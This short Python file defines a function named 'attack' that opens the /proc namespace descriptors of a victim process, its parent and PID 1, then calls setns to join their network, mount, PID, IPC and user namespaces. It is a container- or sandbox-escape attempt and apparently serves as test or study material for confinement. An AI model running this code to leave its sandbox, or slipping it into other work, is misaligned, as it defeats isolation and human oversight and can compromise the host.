"""Join the namespaces of the outside through its descriptors in /proc, or through a pidfd."""

import ctypes
import os


def attack(target):
    libc = ctypes.CDLL(None)
    loot = []
    for pid in [target["victim"], os.getppid(), 1]:
        for kind in ["net", "mnt", "pid", "ipc", "user"]:
            try:
                descriptor = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
                loot.append(kind)
                libc.setns(descriptor, 0)
            except OSError:
                pass
    return loot
